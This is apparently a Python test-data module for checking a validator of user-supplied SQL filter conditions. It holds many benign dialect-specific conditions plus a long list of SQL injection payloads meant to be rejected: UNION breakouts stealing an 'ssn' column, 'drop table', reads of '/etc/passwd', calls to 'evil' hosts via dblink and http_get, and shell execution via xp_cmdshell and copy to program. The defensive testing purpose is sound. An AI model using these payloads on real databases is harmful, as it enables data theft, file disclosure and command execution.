"""Conditions of all kinds: what people write, and what somebody tries who wants more than rows."""

from __future__ import annotations

from itertools import product

COLUMNS = """n integer, age integer, height numeric(6, 2), weight double precision, name text,
region varchar(20), admitted date, seen timestamp, active boolean, "Odd Name" text,
"order" integer, "date" date, year integer, ssn text"""

# Cells are separated by bars; a dash is NULL.
_TABLE = r"""
1|17|171.25|61.5|Ann|north|2024-02-29|2024-02-29 23:59:59|true|x:y|1|2024-01-01|2023
2|34|180.00|82.0|bob|south|2024-03-01|2024-03-01 00:00:00|false|it's|2|2024-03-05|2024
3|34|165.50|70.25|Böb|south|2024-03-15|2024-03-15 12:30:00|true|100% sure|3|2024-03-31|2024
4|51|158.75|90.5|O'Neil|north east|2024-04-01|2024-04-01 08:00:00|true|)(;--|4|2024-04-01|2024
5|68|190.00|101.0|Eve_1|west|2023-12-31|2023-12-31 18:45:10|false|a"b|5|2023-12-31|2023
6|90|149.00|44.75||-|2024-03-31|2024-03-31 23:59:59|-|-|6|-|2025
7|-|-|-|-|north|-|-|true|plain|7|2024-06-01|-
"""


def _literal(cell: str) -> str:
    if cell == "-":
        return "null"
    bare = cell in ("true", "false") or cell.replace(".", "").isdigit()
    return cell if bare else "'" + cell.replace("'", "''") + "'"


ROWS = [
    f"({', '.join(map(_literal, line.split('|')))}, 'canary-{i}')"
    for i, line in enumerate(_TABLE.strip().splitlines(), 1)
]

EVERYWHERE = """
age > 30
age>=30 and age<=60
age <> 34
age != 34
age = -1 or age = +34
not age = 34
not (age = 34 or age = 51)
age between 18 and 67
age not between 18 and 67
age in (17, 34, 51)
age not in (17, 34, 51)
age is null
age is not null
age is null or age < 18
age + 1 > 35
age - -1 > 35
age * 2 < 100
age / 2.0 > 20
age % 2 = 0
(age > 18)
((age > 18) and (age < 60)) or ((region = 'north'))
age > 18 AND region = 'north' OR region = 'south'
AGE > 30
Age > 30 and Region = 'south'
height > 1.6e2
height < 180.
weight > .5
weight / (height * height / 10000.0) > 25
region = 'north'
region <> 'north'
region in ('north', 'south')
region not in ('north', 'south') or region is null
region like 'nor%'
region like '%th'
region like '%_east'
region not like 'n%'
region like 'north!_%' escape '!'
name = 'O''Neil'
name = 'Böb'
name = ''
name <> ''
name like 'Eve!_%' escape '!'
"Odd Name" = 'x:y'
"Odd Name" = 'it''s'
"Odd Name" like '100%'
"Odd Name" = ')(;--'
"Odd Name" = 'a"b'
"Odd Name" = ':start'
"Odd Name" is not null
"order" > 2
"order" in (1, 2)
year = 2024
year between 2023 and 2024
"date" is not null
"date" >= '2024-03-01'
admitted >= '2024-03-01'
admitted < '2024-03-01'
admitted between '2024-03-01' and '2024-03-31'
admitted is null
admitted >= :start and admitted < :end
admitted < :end
admitted >= :start or admitted is null
admitted >= :start and admitted >= :start and :start < :end
ssn <> 'canary-1'
ssn like 'canary-%'
ssn is not null
active
not active
active = true
active is true
active is not true
active is null
coalesce(active, false)
active and age > 18
lower(name) = 'bob'
upper(region) = 'NORTH'
length(name) > 3
substr(name, 1, 1) = 'O'
trim(region) = 'north'
ltrim(region) = 'north'
rtrim(region) = 'north'
replace(region, ' ', '_') = 'north_east'
coalesce(age, 0) > 20
coalesce(region, 'none') = 'none'
nullif(region, 'north') is null
abs(age - 34) <= 20
round(height, 0) > 170
round(height) > 170
region || '!' = 'north!'
case when age > 30 then true else false end
case region when 'north' then 1 when 'south' then 2 else 0 end > 0
case when active then age > 30 else age > 60 end
cast(age as text) = '34'
cast(height as integer) > 160
cast(n as real) > 2.5
cast(age as decimal(10, 2)) > 34
(age, region) = (34, 'south')
1 = 1
1 = 0
true
age > 18 and (region = 'north' or (region = 'south' and (weight > 60 or weight is null)))
n = 1 or n = 2 or n = 3 or n = 4 or n = 5
age is distinct from 34
age is not distinct from 34
    age    >    30
""".strip("\n").splitlines()

POSTGRES_AND_DUCKDB = """
admitted >= date '2024-03-01'
seen >= timestamp '2024-03-01 00:00:00'
seen >= :start and seen < :end
seen < :end - interval '1 day'
seen >= :start + interval '2 days'
admitted >= :start::date
admitted::date >= '2024-03-01'::date
cast(seen as date) = date '2024-03-01'
seen::date between '2024-03-01' and '2024-03-31'
extract(year from admitted) = 2024
extract(month from seen) in (2, 3)
extract(dow from admitted) not in (0, 6)
extract(year from "date") = 2024
date_part('year', admitted) = 2024
date_trunc('month', seen) = timestamp '2024-03-01'
date_trunc('month', seen) < :start + interval '1 month'
seen > timestamp '2024-01-01' + interval '10' day
name ilike 'b%'
region similar to '(north|south)'
name ~ 'O.*'
name !~ 'O.*'
substring(name from 1 for 2) = 'An'
substring(name, 1, 2) = 'An'
position('o' in region) > 0
strpos(region, 'o') = 2
left(region, 2) = 'no'
right(region, 2) = 'th'
trim(both 'n' from region) = 'orth'
char_length(name) = 3
concat(region, name) = 'northAnn'
starts_with(region, 'no')
split_part(region, ' ', 2) = 'east'
greatest(age, 40) = 40
least(age, 40) = 40
ceil(weight) > 62
floor(weight) = 61
sqrt(weight) > 8
power(weight, 2) > 4000
sign(age - 34) = 1
mod(age, 2) = 0
(age & 1) = 1
ln(age) > 3.5
make_date(2024, 3, 1) <= admitted
age(seen) > interval '18 years'
admitted < current_date
seen < now()
seen < current_timestamp
seen::timestamptz at time zone 'UTC' >= timestamp '2024-03-01'
active is unknown
active is false
n::bigint > 2
n::smallint = 3
height::double precision > 170.0
height::numeric(10, 1) > 170.0
region::varchar(2) = 'no'
cast(n as varchar(5)) = '3'
'34'::integer = age
region is distinct from 'north'
(n, age) in ((2, 34), (3, 34))
regexp_replace(region, 'o', '0') = 'n0rth'
lpad(region, 3, ' ') = 'nor'
reverse(region) = 'htron'
translate(region, 'n', 'N') = 'North'
concat_ws('-', region, name) = 'north-Ann'
date_trunc('year', admitted) >= date '2024-01-01'
""".strip("\n").splitlines()

POSTGRES = """
name ~* '^b'
age between symmetric 60 and 20
name !~* '^b'
to_char(admitted, 'YYYY-MM') = '2024-03'
to_date('2024-03-01', 'YYYY-MM-DD') <= admitted
initcap(region) = 'North East'
btrim(region) = 'north'
age(timestamp '2024-06-01', seen) > interval '2 mons'
cast(region as character varying(5)) = 'north'
seen > timestamp with time zone '2024-03-01 00:00:00+00'
(admitted, admitted) overlaps (date '2024-03-01', date '2024-04-01')
trunc(weight) = 61
isfinite(admitted)
region::char(2) = 'no'
""".strip("\n").splitlines()

DUCKDB = """
strftime(admitted, '%Y-%m') = '2024-03'
strptime('2024-03-01', '%Y-%m-%d') <= seen
date_diff('day', admitted, date '2024-04-01') < 30
datediff('day', admitted, date '2024-04-01') < 30
year(admitted) = 2024
month(admitted) = 3
day(admitted) = 1
quarter(seen) = 1
try_cast(name as integer) is null
regexp_matches(region, 'n.r')
regexp_full_match(region, 'n.*')
contains(region, 'ort')
ends_with(region, 'th')
ifnull(age, 0) = 0
region glob 'n*'
age == 34
age // 10 = 3
if(age > 30, true, false)
dayname(admitted) = 'Friday'
monthname(admitted) = 'March'
last_day(admitted) = date '2024-03-31'
isnan(weight) = false
seen >= :start + interval 2 days
len(region) = 5
region isnull
region notnull
cast(n as hugeint) > 1
""".strip("\n").splitlines()

SQLITE = """
strftime('%Y', admitted) = '2024'
date(seen) >= '2024-03-01'
julianday(admitted) > 2460000
date(admitted, '+1 day') = '2024-03-02'
instr(region, 'o') = 2
ifnull(age, 0) = 0
iif(age > 30, 1, 0) = 1
age == 34
region glob 'n*'
region isnull
region notnull
admitted < current_date
datetime(seen) >= '2024-03-01 00:00:00'
""".strip("\n").splitlines()

MYSQL = """
date_format(admitted, '%Y-%m') = '2024-03'
admitted >= date_sub(:end, interval 7 day)
admitted >= :start - interval 1 month
datediff(admitted, :start) < 30
timestampdiff(year, admitted, :end) >= 18
year(admitted) = 2024 and month(admitted) = 3
dayofweek(admitted) in (1, 7)
str_to_date('2024-03-01', '%Y-%m-%d') <= admitted
if(age > 30, 1, 0) = 1
ifnull(age, 0) = 0
name regexp '^b'
name rlike '^b'
age <=> 34
age div 10 = 3
age mod 2 = 0
cast(age as signed) > 3
cast(age as unsigned) > 3
cast(age as char) = '34'
cast(weight as decimal(10, 2)) > 3
concat(region, name) = 'northAnn'
locate('o', region) = 2
instr(region, 'o') = 2
char_length(name) = 3
left(region, 2) = 'no'
last_day(admitted) = '2024-03-31'
curdate() > admitted
now() > seen
active xor age > 30
extract(year from admitted) = 2024
truncate(weight, 0) = 61
""".strip("\n").splitlines()

PLAIN = [
    *(("duckdb postgres sqlite mysql", text) for text in EVERYWHERE),
    *(("duckdb postgres", text) for text in POSTGRES_AND_DUCKDB),
    *(("postgres", text) for text in POSTGRES),
    *(("duckdb", text) for text in DUCKDB),
    *(("sqlite", text) for text in SQLITE),
    *(("mysql", text) for text in MYSQL),
]

# What leaves its parentheses, or tries to.
BREAKOUTS = r"""
a < 0 or E'\'' is null) union all select a, ssn from t where (a is not null or E'\'' is null
n > 0) union all select n, ssn from t where (true
1 = 1) or (1 = 1
1 = 1)
(1 = 1
n > 0) --
n > 0) /*
n > 0) #
n > 0); drop table t; --
n > 0; select ssn from t
n > 0 union select ssn from t
n > 0 union all select ssn from t
n > 0 except select ssn from t
n > 0 intersect select ssn from t
n > 0 order by ssn
n > 0 limit 1
n > 0 offset 1
n > 0 fetch first row only
n > 0 group by ssn
n > 0 group by n having true
n > 0 having count(*) > 0
n > 0 window w as ()
n > 0 qualify true
n > 0 for update
n > 0 returning ssn
n > 0 into outfile '/tmp/x'
n > 0 procedure analyse()
n > 0 using sample 1
n > 0 as x
n > 0, ssn
n > 0 ssn
E'\''
name = E'\' or 1=1 -- '
name = e'\') union select ssn from t where (e\''
name = E'\x27'
name = E '\''
name = '\'' or 1=1 -- '
name = '\') union select ssn from t where (\''
name = 'x\\' or ssn = 'y'
name = "\" or 1=1 -- "
name = U&'\0027 or true'
name = U&'d!0061t' uescape '!'
name = u&"d\0061t"
U&"\0073sn" = 'x'
name = N'x'
name = n'x'
name = x'41'
name = X'41'
name = b'01'
name = B'01'
name = _utf8'x'
name = _binary'x'
name = _utf8 'x'
name = q'[x]'
name = Q'{it's}'
name = r'x'
name = $$x$$
name = $$) union select ssn from t where ($$
name = $tag$x$tag$
name = $a$' $a$
n = $1
n = ?
n = @x
n = @@version
n = %s
n = %(start)s
n = {start}
n = {{ start }}
n = `n`
`n` = 1
`) union select ssn from t where (` = 1
[n] = 1
n = [1]
name = 'x
name = 'x''
"name = 'x'
name = "x
name = '''
n = 1 -- comment
n = 1 --
n = 1 /* comment */
n = 1 /* /* nested */ */
n = 1 /*! or 1=1 */
n = 1 /*!50000 union select ssn from t */
n = 1 /*+ hint */
n = 1 # comment
n /**/ = 1
n = 1 or/**/1=1
n = 1--1
<!-- n = 1
n = 1 ;
;
name = ’x’
name = ‘x’ or 1=1
name = “x”
name = ʼxʼ
name = ＇x＇
n = 1
n = １
n ＝ 1
ｎ（1）
name = 'x' 'y'
name = 'x' "y"
name = 'x'
n = 0x41
n = 1_000
n = 1x
n = 1e
n = 1..2
n = 1.2.3
""".strip("\n").splitlines()

# What reads more than the row: other tables, files, settings, other people.
READERS = r"""
n in (select n from u)
n = (select max(n) from u)
ssn = (select ssn from t limit 1)
exists (select 1)
exists (select ssn from t)
not exists (select 1 from u)
n = any (select n from u)
n = all (select n from u)
n = some (select n from u)
n > all (values (1))
n in (values (1), (2))
n in (table u)
n in (with x as (select 1) select * from x)
(select true)
(select ssn from t limit 1) = 'x'
array(select ssn from t) is not null
n in (select n from read_csv('/etc/passwd'))
n in (from u)
n = (from u select n)
lateral (select 1)
unnest(array[1]) = 1
generate_series(1, 3) = n
pg_read_file('/etc/passwd') is not null
pg_read_binary_file('/etc/passwd') is not null
pg_ls_dir('/') is not null
pg_stat_file('/etc/passwd') is not null
pg_sleep(10) is null
pg_has_role(ssn::name, 'usage')
pg_has_role(ssn, 'usage')
has_table_privilege(ssn, 'select')
pg_terminate_backend(n)
pg_cancel_backend(n)
pg_reload_conf()
pg_advisory_lock(n) is null
pg_notify(ssn, ssn) is null
pg_file_write('/tmp/x', ssn, true) > 0
query_to_xml('select ssn from t', true, true, '') is not null
table_to_xml('t', true, true, '') is not null
database_to_xml(true, true, '') is not null
cursor_to_xml('c', 1, true, true, '') is not null
xpath('/x', ssn::xml) is not null
xmlparse(document ssn) is not null
dblink('host=evil', 'select 1') is not null
dblink_exec('host=evil', ssn) is not null
dblink_connect(ssn) is not null
lo_import('/etc/passwd') > 0
lo_export(n, '/tmp/x') > 0
lo_get(n) is not null
current_setting('data_directory') is not null
set_config('search_path', ssn, false) is not null
current_query() is not null
version() is not null
inet_server_addr() is not null
current_user = ssn
session_user = ssn
user = ssn
current_role = ssn
current_catalog = ssn
current_schema = ssn
current_schema() = ssn
current_database() = ssn
system_user = ssn
txid_current() > 0
nextval('s') > 0
setval('s', n) > 0
random() < 0.5
gen_random_uuid() is not null
to_regclass(ssn) is not null
obj_description(n) is null
col_description(n, 1) is null
format('%s', ssn) = 'x'
quote_literal(ssn) = 'x'
ts_stat(ssn) is null
copy(ssn) is null
read_text('/etc/passwd') is not null
read_blob('/etc/passwd') is not null
read_csv('/etc/passwd') is not null
read_csv_auto('x') is not null
read_parquet('x') is not null
read_json('x') is not null
glob('/etc/*') is not null
getenv('HOME') is not null
getvariable('x') is not null
query('select 1') is not null
query_table('u') is not null
duckdb_secrets() is not null
duckdb_settings() is not null
pragma_table_info('t') is not null
parquet_metadata('x') is not null
sniff_csv('x') is not null
st_read('x') is not null
http_get('http://evil') is not null
json_execute_serialized_sql(ssn) is not null
json_serialize_sql('select 1') is not null
write_log(ssn) is null
error(ssn) is null
load_extension('x') is null
load_extension('x', 'y')
readfile('/etc/passwd') is not null
writefile('/tmp/x', ssn) > 0
edit(ssn) is not null
eval('select 1') is not null
fts3_tokenizer('x') is not null
zeroblob(1000000000) is not null
randomblob(10) is not null
last_insert_rowid() > 0
sqlite_version() is not null
sqlite_compileoption_get(1) is null
load_file('/etc/passwd') is not null
sleep(10) = 0
benchmark(1000000, md5('x')) = 0
sys_eval('id') is not null
sys_exec('id') = 0
get_lock('x', 1) = 1
extractvalue(1, concat(0x7e, ssn)) is null
updatexml(1, concat(0x7e, ssn), 1) is null
name_const('x', 1) = 1
connection_id() = 1
database() = 'x'
schema() = 'x'
user() = 'x'
system_user() = 'x'
uuid() = 'x'
master_pos_wait('x', 1) is null
xp_cmdshell('dir') = 0
openrowset('x', 'y', 'z') is null
utl_http.request('http://evil') is null
dbms_pipe.receive_message('x', 1) = 0
pg_catalog.pg_read_file('x') is not null
pg_catalog.lower(ssn) = 'x'
public.leak(ssn)
leak(ssn)
"leak"(ssn)
"lower"(ssn) = 'x'
"pg_read_file"('x') is not null
lower (ssn) = 'x' and leak (ssn)
t.ssn = 'x'
u.ssn = 'x'
"t"."ssn" = 'x'
public.t.ssn = 'x'
t.* is not null
(t).ssn = 'x'
(t.*)::text = 'x'
t.leak = 1
ssn.upper() = 'x'
excluded.ssn = 'x'
new.ssn = 'x'
* is not null
columns(*) > 1
columns('ssn') = 'x'
struct_pack(a := ssn) is not null
{'a': ssn} is not null
map {'a': ssn} is not null
[ssn] is not null
[x for x in [1]] is not null
list_transform([1], x -> x) is not null
list_transform([1], lambda x: x) is not null
array[ssn] is not null
ssn[1:2] = 'x'
row(ssn) is not null
""".strip("\n").splitlines()

# What is more than a plain comparison: casts that read catalogues, operators of anybody's making.
ODDITIES = r"""
ssn::name = 'x'
ssn::regclass is null
ssn::regproc is null
ssn::regprocedure is null
ssn::regoper is null
ssn::regtype is null
ssn::regrole is null
ssn::regnamespace is null
ssn::regconfig is null
ssn::regdictionary is null
ssn::regcollation is null
ssn::oid > 0
ssn::xid is null
ssn::cid is null
ssn::tid is null
ssn::xml is null
ssn::json is null
ssn::jsonb is null
ssn::jsonpath is null
ssn::tsquery is null
ssn::tsvector is null
ssn::inet is null
ssn::bytea is null
ssn::money is null
ssn::point is null
ssn::text[] is null
ssn::"char" = 'x'
ssn::"name" = 'x'
ssn::pg_catalog.name = 'x'
ssn::my_enum = 'x'
ssn::my_domain = 'x'
ssn::t is null
ssn::void is null
ssn::aclitem is null
ssn::refcursor is null
ssn::blob is null
ssn::enum('a', 'b') is null
ssn::struct(a int) is null
ssn::int[] is null
ssn::variant is null
cast(ssn as name) = 'x'
cast(ssn as regclass) is null
cast(ssn as oid) > 0
cast(ssn as json) is null
cast(ssn as xml) is null
cast(ssn as binary) = 'x'
cast(ssn as my_type) = 'x'
cast(ssn as "char") = 'x'
cast(ssn as char character set utf8) = 'x'
convert(ssn using utf8) = 'x'
convert(ssn, char) = 'x'
name(ssn) = 'x'
regclass(ssn) is null
regclass 'pg_class' is null
name 'x' = ssn
oid '1' > 0
json '{}' is null
xml '<x/>' is null
bytea 'x' = ssn
ssn 'x' = 'y'
"name" 'x' = ssn
int4range '[1,2]' is null
ssn -> 'x' = 'y'
ssn ->> 'x' = 'y'
ssn #> 'x' = 'y'
ssn #>> 'x' = 'y'
ssn @> 'x'
ssn <@ 'x'
ssn ? 'x'
ssn ?| 'x'
ssn @? '$.x'
ssn @@ 'x'
ssn && 'x'
ssn ~~ 'x'
ssn !~~ 'x'
ssn ~~* 'x'
ssn ^@ 'x'
ssn <-> 'x' = 0
ssn <#> 'x' = 0
ssn <=>= 1
ssn === 'x'
ssn =~ 'x'
ssn *= 'x'
ssn := 'x'
ssn => 'x'
ssn operator(pg_catalog.=) 'x'
ssn operator(public.+) 'x' = 'y'
n operator(+) 1 = 2
@ n = 1
|/ n = 1
||/ n = 1
!! n = 1
n ! = 1
n ^ 2 = 1
n # 2 = 1
n << 1 = 2
n >> 1 = 0
n ** 2 = 1
ssn collate "C" = 'x'
ssn collate nocase = 'x'
ssn collate utf8_bin = 'x'
ssn collate "evil"."c" = 'x'
count(*) > 1
count(ssn) > 1
sum(n) > 1
max(ssn) = 'x'
min(n) = 1
avg(n) > 1
string_agg(ssn, ',') = 'x'
group_concat(ssn) = 'x'
array_agg(ssn) is not null
json_agg(ssn) is not null
list(ssn) is not null
first(ssn) = 'x'
arg_max(ssn, n) = 'x'
sum(n) filter (where true) > 1
row_number() over () = 1
rank() over (order by ssn) = 1
lag(ssn) over (order by n) = 'x'
first_value(ssn) over () = 'x'
sum(n) over w > 1
lead(ssn) over (partition by n) = 'x'
percentile_cont(0.5) within group (order by n) > 1
match (ssn) against ('x')
ssn match 'x'
ssn sounds like 'x'
ssn member of ('[]')
binary ssn = 'x'
case when n > 0 then (select ssn from t) end = 'x'
coalesce((select ssn from t limit 1), 'x') = 'x'
n between (select 1) and 3
n in (1, (select 2))
lower((select ssn from t limit 1)) = 'x'
cast((select ssn from t limit 1) as integer) = 1
n is of (integer)
n is json
grouping(n) = 0
select
select 1
select ssn from t
select * from t where n > 0
insert into u values (1)
update t set n = 1
delete from t
drop table t
truncate t
create table x (i int)
alter table t drop n
grant all on t to public
copy t to '/tmp/x'
copy (select ssn from t) to program 'sh'
attach 'x.db' as x
detach x
load 'x'
install httpfs
pragma table_info(t)
set search_path = x
reset all
call leak()
do 'x'
execute x
prepare x as select 1
explain select 1
listen x
show tables
describe t
use x
values (1)
table t
with x as (select 1) select 1
n
1
'x'
null
n + 1
'x' || ssn
:start
n > 0 and 1
n > 0 or 'x'
not 1
age(seen)::text
""".strip("\n").splitlines()

# "n" alone may be a boolean column; and what is left of these is a plain function of a column.
_NOT_HOSTILE = {"n", "n = 1", "name = 'x'", "name = 'x' "}
_CONTROL = [
    "n = 1\0",
    "name = '\0'",
    "name = 'x\n\0'",
    "n\u00a0= 1",
    "n\u3000= 1",
    "n = 1\u2028or 1=1",
    "n = 1\x0bor 1=1",
    "n = 1\x0cor 1=1",
    "n\u200b = 1",
    "\ufeffn = 1",
    "name = 'x\x1ay'",
    "n = 1\x85or 1=1",
    "n = 1 \u202e or",
    "",
    " ",
    "\n",
    "(" * 5000 + "n = 1" + ")" * 5000,
    "not " * 5000 + "active",
    "- " * 5000 + "n = 1",
    "n = 1 " + "or n = 1 " * 5000,
    "stand_in_for_bound_0 = 1",
    "STAND_IN_FOR_QUOTED_0 = 1",
]
ALONE = [text for text in (*BREAKOUTS, *READERS, *ODDITIES) if text not in _NOT_HOSTILE] + _CONTROL
# The same among harmless company, as somebody would hide them.
CARRIERS = ["n > 0 and ({})", "({}) or n > 0", "case when {} then true else false end"]
HIDDEN = [
    carrier.format(text)
    for text, carrier in product(READERS + ODDITIES[:130], CARRIERS)
    if text not in _NOT_HOSTILE
]
HOSTILE = ALONE + HIDDEN
